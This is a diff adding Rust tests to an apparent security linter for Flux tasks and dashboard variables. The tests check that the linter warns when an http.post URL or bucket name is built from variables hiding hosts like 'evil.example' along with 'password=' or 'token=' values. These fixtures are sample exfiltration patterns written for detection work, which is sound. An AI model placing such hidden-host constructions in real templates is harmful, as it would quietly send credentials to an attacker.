@@ -505,6 +505,16 @@ fn a_place_that_is_hidden_in_what_a_script_is_given_is_said() {
     ] {
         assert_eq!(by(task, &script), [(Code::FluxHiddenPlace, Severity::Warning)], "{task} {script}");
     }
+    let named = |name: &str| {
+        let script = "strings.trimPrefix(v: params.b, prefix: \"password=\")";
+        let task = "params = { b = { bucket = \"bucket.bb\" } }\nflux = '''\nimport \"strings\"\nfrom(bucket: ";
+        let task = format!(
+            "{task}{script}) |> range(start: -1h)\n'''\n[bucket.bb]\nname = \"{name}\"\n[task.u]\nevery = \"1h\""
+        );
+        by(&task, "")
+    };
+    assert_eq!(named("password=evilb"), [(Code::FluxHiddenPlace, Severity::Warning)]);
+    assert_eq!(named("evilb"), []);
     for (task, script) in [
         (token, post("\"https://\" + params.token")),
         ("params = { host = \"a.example\" }", post("strings.joinStr(arr: [\"https://\", params.host], v: \"\")")),
@@ -512,6 +522,36 @@ fn a_place_that_is_hidden_in_what_a_script_is_given_is_said() {
         ("name = \"plain\"", post("\"https://\" + strings.trimSpace(v: task.name)")),
     ] {
         assert_eq!(by(task, &script), [], "{task} {script}");
+    }
+}
+
+/// A value of a variable can hide a place as well, in whatever cell makes one of it.
+#[test]
+fn a_place_that_is_hidden_in_a_variable_is_said() {
+    let by = |variable: &str, query: &str| {
+        let cell = format!(
+            "[[dashboard.d.cell]]\nat = [0, 0]\nsize = [4, 4]\nxy = {{}}\nflux = '''\nimport \"http\"\nimport \"strings\"\n{query}\n'''"
+        );
+        codes(&said("", ("toml", format!("[variable.vt]\n{variable}\n[dashboard.d]\n{cell}\n"))))
+    };
+    let post = |url: &str| format!("http.post(url: {url})");
+    let map = "map = { password = \"evil.example\" }";
+    for (variable, query) in [
+        (map, post("\"https://\" + v.vt")),
+        (map, post("\"https://\" + v[\"vt\"]")),
+        (map, "d = v\nhttp.post(url: \"https://\" + d.vt)".to_owned()),
+        ("values = [\"a\", \"token=x@evil.example\"]", post("\"https://${v.vt}\"")),
+        (map, "from(bucket: strings.trimSpace(v: v.vt)) |> range(start: -1h)".to_owned()),
+    ] {
+        assert_eq!(by(variable, &query), [(Code::FluxHiddenPlace, Severity::Warning)], "{variable} {query}");
+    }
+    for (variable, query) in [
+        ("values = [\"a.example\"]", post("\"https://\" + v.vt")),
+        (map, post("\"https://a.example\", headers: {x: v.vt}")),
+        (map, post("\"https://\" + v.other")),
+        (map, "from(bucket: \"b\") |> range(start: v.timeRangeStart)".to_owned()),
+    ] {
+        assert_eq!(by(variable, &query), [], "{variable} {query}");
     }
 }
 
